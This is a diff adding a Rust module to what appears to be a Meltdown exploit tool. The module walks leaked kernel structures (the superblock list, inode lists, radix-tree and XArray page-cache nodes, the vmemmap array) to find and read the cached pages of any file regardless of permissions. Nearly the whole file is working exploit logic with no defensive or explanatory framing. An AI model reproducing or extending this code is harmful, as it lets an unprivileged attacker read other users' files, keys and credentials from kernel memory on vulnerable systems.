@@ -0,0 +1,162 @@
+//! Leaking files out of the page cache, where the kernel keeps what it has
+//! read of every file, whoever was allowed to read it.
+//!
+//! Finding a file's pages is a walk through leaked kernel structures.
+//! `super_blocks` lists every mounted filesystem, each filesystem lists its
+//! inodes, and the inode with the file's number holds the tree that indexes
+//! its cached pages by offset. The tree's leaves are `struct page`s in the
+//! `vmemmap` array, where a page's index is its frame number, so its
+//! contents can be leaked through the direct map.
+
+use kernel::{PageCacheOffsets, PageTree};
+use reader::MeltdownReader;
+use suppress::ExceptionSuppressor;
+use tasks::{read_pointer, read_u32, read_word};
+use PAGE_SIZE;
+
+/// How many entries of a list are followed before a walk gives up, in case
+/// a misread pointer has sent it round a loop that never comes back.
+pub const MAX_WALK: usize = 1 << 20;
+
+// how many times a tree entry is leaked again while a byte of it doesn't
+// decode. unlike a list pointer, an entry can rightly be 0
+const ENTRY_RETRIES: usize = 4;
+
+// super_block.s_dev comes right after s_list, the link in super_blocks, in
+// every release
+const S_DEV: usize = 0x10;
+
+// the root of the tree, after address_space.host
+const TREE_ROOT: usize = 0x10;
+
+// radix tree and XArray nodes both start with their shift and keep their
+// slots here
+const NODE_SLOTS: usize = 0x28;
+const NODE_SLOTS_LEN: usize = 64;
+
+// the size of struct page
+const STRUCT_PAGE_SIZE: usize = 64;
+
+/// Converts a device number as `stat` gives it to the kernel's encoding,
+/// which `super_block.s_dev` holds.
+pub fn kernel_dev(dev: u64) -> u32 {
+    let major = ((dev >> 8) & 0xfff) | ((dev >> 32) & !0xfff);
+    let minor = (dev & 0xff) | ((dev >> 12) & !0xff);
+    (major << 20 | minor) as u32
+}
+
+/// Walks the list at `super_blocks`, the address of the symbol, for the
+/// filesystem on `dev`, in the kernel's encoding.
+pub fn find_super_block<S: ExceptionSuppressor>(
+    reader: &MeltdownReader<S>,
+    super_blocks: usize,
+    dev: u32,
+) -> Option<usize> {
+    // s_list is the first field, so every link is its super_block
+    let mut super_block = read_pointer(reader, super_blocks)?;
+    for _ in 0..MAX_WALK {
+        if super_block == super_blocks {
+            return None;
+        }
+        if read_u32(reader, super_block + S_DEV) == Some(dev) {
+            return Some(super_block);
+        }
+        super_block = read_pointer(reader, super_block)?;
+    }
+    None
+}
+
+/// Walks the inodes of the filesystem at `super_block` for inode number
+/// `ino`.
+pub fn find_inode<S: ExceptionSuppressor>(
+    reader: &MeltdownReader<S>,
+    offsets: &PageCacheOffsets,
+    super_block: usize,
+    ino: u64,
+) -> Option<usize> {
+    let head = super_block + offsets.s_inodes;
+    let mut link = read_pointer(reader, head)?;
+    for _ in 0..MAX_WALK {
+        if link == head {
+            return None;
+        }
+        let inode = link.wrapping_sub(offsets.inode.i_sb_list);
+        if read_word(reader, inode + offsets.inode.i_ino) == Some(ino) {
+            return Some(inode);
+        }
+        link = read_pointer(reader, link)?;
+    }
+    None
+}
+
+// what a slot of the tree holds
+enum Entry {
+    // nothing, or the shadow of a page that was evicted
+    Empty,
+    Node(usize),
+    Page(usize),
+}
+
+impl Entry {
+    fn decode(tree: PageTree, entry: usize) -> Entry {
+        match tree {
+            _ if entry == 0 => Entry::Empty,
+            PageTree::RadixTree if entry & 3 == 1 => Entry::Node(entry - 1),
+            // exceptional entries
+            PageTree::RadixTree if entry & 2 != 0 => Entry::Empty,
+            // the small internal entries are retry and sibling markers
+            PageTree::XArray if entry & 3 == 2 && entry > 4096 => Entry::Node(entry - 2),
+            // value entries and the rest of the internal ones
+            PageTree::XArray if entry & 3 != 0 => Entry::Empty,
+            _ => Entry::Page(entry),
+        }
+    }
+}
+
+fn read_entry<S: ExceptionSuppressor>(reader: &MeltdownReader<S>, addr: usize) -> Option<usize> {
+    (0..ENTRY_RETRIES)
+        .filter_map(|_| read_word(reader, addr))
+        .map(|word| word as usize)
+        .next()
+}
+
+/// The `struct page` holding page `index` of the file whose inode is at
+/// `inode`. None if the page isn't cached, or an entry on the way down
+/// doesn't leak.
+pub fn find_page<S: ExceptionSuppressor>(
+    reader: &MeltdownReader<S>,
+    offsets: &PageCacheOffsets,
+    inode: usize,
+    index: usize,
+) -> Option<usize> {
+    let mapping = read_pointer(reader, inode + offsets.inode.i_mapping)?;
+    let mut entry = read_entry(reader, mapping + TREE_ROOT)?;
+    let mut root = true;
+    loop {
+        match Entry::decode(offsets.tree, entry) {
+            Entry::Empty => return None,
+            // a page at the root is the only one, at index 0
+            Entry::Page(page) => return if root && index != 0 { None } else { Some(page) },
+            Entry::Node(node) => {
+                let shift = reader.read_range(node as *const u8, 1)[0]? as usize;
+                // the root covers every index the tree has
+                if root && shift < 64 && index >> shift >= NODE_SLOTS_LEN {
+                    return None;
+                }
+                let slot = (index >> shift) & (NODE_SLOTS_LEN - 1);
+                entry = read_entry(reader, node + NODE_SLOTS + slot * 8)?;
+                root = false;
+            }
+        }
+    }
+}
+
+/// The physical address of the page `page` describes, given where the
+/// `vmemmap` array starts. None if `page` isn't in it.
+pub fn page_physical(page: usize, vmemmap: usize) -> Option<usize> {
+    let offset = page.checked_sub(vmemmap)?;
+    if offset % STRUCT_PAGE_SIZE != 0 {
+        return None;
+    }
+    Some(offset / STRUCT_PAGE_SIZE * PAGE_SIZE)
+}